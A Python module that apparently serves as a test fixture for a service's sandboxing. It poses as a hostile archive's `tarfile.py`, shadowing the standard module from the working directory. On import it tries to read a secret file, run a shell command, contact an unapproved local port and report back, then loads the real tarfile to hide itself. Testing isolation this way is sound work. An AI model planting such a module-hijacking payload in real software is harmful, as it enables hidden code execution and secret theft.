"""What a hostile archive brings as `tarfile.py`.

`python3 -c` looks for modules in the working directory first. Where that is the folder archives are unpacked into,
the next archive is opened by this file: code of the attacker in a process of the service. It tries what such code
tries, tells the collector how far it came, and goes on as the real module so that nobody notices.
"""
import errno
import json
import socket
import subprocess
import sys


def send(port, name, body=""):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        request = f"POST /{name} HTTP/1.0\r\nContent-Length: {len(body)}\r\n\r\n{body}"
        connection.sendall(request.encode())
        connection.recv(1)


def read(path):
    with open(path) as file:
        return file.read()


def attempt(act, *arguments):
    try:
        return {"value": act(*arguments)}
    except OSError as error:
        return {"error": errno.errorcode.get(error.errno, str(error))}


with open("tarfile.json") as file:
    targets = json.load(file)
outcome = {
    "secret": attempt(read, targets["secret"]),
    "shell": attempt(subprocess.call, ["/bin/sh", "-c", 'echo written > "$0"', targets["file"]]),
    "other": attempt(send, targets["otherPort"], "phone-home"),
}
attempt(send, targets["grantedPort"], "module", json.dumps(outcome))

sys.path.remove("")
del sys.modules["tarfile"]
import tarfile
